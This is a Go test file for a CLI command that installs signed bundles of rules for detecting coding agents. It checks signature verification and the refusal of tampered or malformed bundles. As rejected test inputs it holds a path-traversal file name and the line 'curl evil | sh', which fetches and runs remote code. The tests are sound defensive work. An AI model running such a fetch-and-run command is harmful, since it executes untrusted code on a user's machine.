package cli

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// rulesRig: a home folder, a test key pair the command trusts instead of
// the production key, and a local server publishing whatever bundle the
// test puts there.
type rulesRig struct {
	home   string
	keyDir string
	priv   ed25519.PrivateKey
	bundle []byte
	srv    *httptest.Server
}

func newRulesRig(t *testing.T) *rulesRig {
	t.Helper()
	r := &rulesRig{home: t.TempDir(), keyDir: t.TempDir()}
	t.Setenv("HOME", r.home)
	t.Setenv("USERPROFILE", r.home)
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	r.priv = priv
	old := rulesPublicKey
	rulesPublicKey = base64.StdEncoding.EncodeToString(pub)
	t.Cleanup(func() { rulesPublicKey = old })
	if err := os.WriteFile(filepath.Join(r.keyDir, "key"), []byte(base64.StdEncoding.EncodeToString(priv)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if strings.HasSuffix(req.URL.Path, "/missing") {
			http.NotFound(w, req)
			return
		}
		w.Write(r.bundle)
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *rulesRig) run(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := Run(&Env{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb}, args)
	return code, out.String(), errb.String()
}

// sign makes a bundle of files with `osfoundry rules sign` and the given key file.
func (r *rulesRig) sign(t *testing.T, key string, files map[string]string) []byte {
	t.Helper()
	src := t.TempDir()
	for n, c := range files {
		if err := os.WriteFile(filepath.Join(src, n), []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	outPath := filepath.Join(t.TempDir(), "bundle.json")
	if code, _, errs := r.run(t, "rules", "sign", "--key", key, "--version", "2026.12.01", "-o", outPath, src); code != 0 {
		t.Fatalf("rules sign: exit %d: %s", code, errs)
	}
	b, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// signRaw signs files as a bundle without the checks `rules sign` makes:
// how a broken bundle that is correctly signed would look.
func signRaw(t *testing.T, priv ed25519.PrivateKey, files map[string]string) []byte {
	t.Helper()
	payload, _ := json.Marshal(map[string]any{"format": 1, "version": "bad", "files": files})
	b, _ := json.Marshal(map[string]string{
		"payload":   base64.StdEncoding.EncodeToString(payload),
		"signature": base64.StdEncoding.EncodeToString(ed25519.Sign(priv, payload)),
	})
	return b
}

const goodClaude = `[agent]
name = "claude"
display = "Claude Code"
process_names = ["claude"]

[[rules]]
state = "blocked"
any = ['Do you want to proceed', 'A new prompt wording']

[[rules]]
state = "idle"
any = ['\? for shortcuts']
`

func TestRulesUpdateInstallsASignedBundle(t *testing.T) {
	r := newRulesRig(t)
	dir := filepath.Join(r.home, ".osfoundry", "agent-detection")
	os.MkdirAll(dir, 0o700)
	// The person's own override of another agent stays.
	mine := "[[rules]]\nstate = \"idle\"\nany = ['mine']\n"
	os.WriteFile(filepath.Join(dir, "aider.toml"), []byte(mine), 0o644)

	r.bundle = r.sign(t, filepath.Join(r.keyDir, "key"), map[string]string{"claude.toml": goodClaude})
	code, out, errs := r.run(t, "rules", "update", "--from", r.srv.URL+"/bundle.json")
	if code != 0 {
		t.Fatalf("rules update: exit %d: %s", code, errs)
	}
	if !strings.Contains(out, "2026.12.01") || !strings.Contains(out, "claude.toml") {
		t.Errorf("output %q should name the version and the files installed", out)
	}
	got, err := os.ReadFile(filepath.Join(dir, "claude.toml"))
	if err != nil || string(got) != goodClaude {
		t.Fatalf("installed claude.toml = %q, %v", got, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "aider.toml")); string(b) != mine {
		t.Errorf("the person's own override changed: %q", b)
	}
	code, out, _ = r.run(t, "rules", "status")
	if code != 0 || !strings.Contains(out, "2026.12.01") || !strings.Contains(out, r.srv.URL) {
		t.Errorf("rules status: exit %d, %q; want the installed version and where it came from", code, out)
	}
}

func TestRulesUpdateRefusesBadBundles(t *testing.T) {
	r := newRulesRig(t)
	dir := filepath.Join(r.home, ".osfoundry", "agent-detection")
	os.MkdirAll(dir, 0o700)
	before := "[[rules]]\nstate = \"idle\"\nany = ['before']\n"
	os.WriteFile(filepath.Join(dir, "claude.toml"), []byte(before), 0o644)

	// Another key: a well-formed bundle the app must not trust.
	_, other, _ := ed25519.GenerateKey(rand.Reader)
	otherKey := filepath.Join(r.keyDir, "other")
	os.WriteFile(otherKey, []byte(base64.StdEncoding.EncodeToString(other)), 0o600)
	good := r.sign(t, filepath.Join(r.keyDir, "key"), map[string]string{"claude.toml": goodClaude})
	tampered := bytes.Replace(good, []byte(`"signature": "`), []byte(`"signature": "AAAA`), 1)

	cases := []struct {
		name   string
		bundle []byte
		want   string
	}{
		{"wrong key", r.sign(t, otherKey, map[string]string{"claude.toml": goodClaude}), "signature does not match"},
		{"tampered signature", tampered, "signature"},
		{"unsigned", []byte(`{"payload": "eyJmb3JtYXQiOjF9"}`), "not signed"},
		{"not a bundle", []byte(`<html>moved</html>`), "not a rules bundle"},
		{"a file outside the folder", signRaw(t, r.priv, map[string]string{"../claude.toml": goodClaude}), "the name must be <agent>.toml"},
		{"broken regex", signRaw(t, r.priv, map[string]string{"claude.toml": strings.Replace(goodClaude, "A new prompt wording", "A new (prompt", 1)}), "claude.toml: rule 1 (blocked): bad regex"},
		{"unknown signal", signRaw(t, r.priv, map[string]string{"claude.toml": goodClaude + "\n[acp]\nadapter = ['^x$']\nasking = ['y']\n"}), "unknown key acp.asking"},
		{"a program", signRaw(t, r.priv, map[string]string{"claude.toml": goodClaude + "\ncommand = 'curl evil | sh'\n"}), "never a program"},
	}
	for _, c := range cases {
		r.bundle = c.bundle
		code, _, errs := r.run(t, "rules", "update", "--from", r.srv.URL)
		if code == 0 || !strings.Contains(errs, c.want) || !strings.Contains(errs, "nothing was changed") {
			t.Errorf("%s: exit %d, stderr %q; want a failure saying %q and that nothing was changed", c.name, code, errs, c.want)
		}
		if b, _ := os.ReadFile(filepath.Join(dir, "claude.toml")); string(b) != before {
			t.Fatalf("%s: the override changed to %q", c.name, b)
		}
		if ents, _ := os.ReadDir(filepath.Join(r.home, ".osfoundry")); len(ents) != 1 {
			t.Errorf("%s: left behind %v, want only agent-detection", c.name, ents)
		}
	}
	// Nothing to fetch: says where it looked.
	code, _, errs := r.run(t, "rules", "update", "--from", r.srv.URL+"/missing")
	if code == 0 || !strings.Contains(errs, "404") || !strings.Contains(errs, "nothing was changed") {
		t.Errorf("unreachable: exit %d, %q", code, errs)
	}
	// A plain-http address off this machine is refused before any request.
	code, _, errs = r.run(t, "rules", "update", "--from", "http://example.com/rules.json")
	if code == 0 || !strings.Contains(errs, "https") {
		t.Errorf("plain http: exit %d, %q; want it to ask for https", code, errs)
	}
}
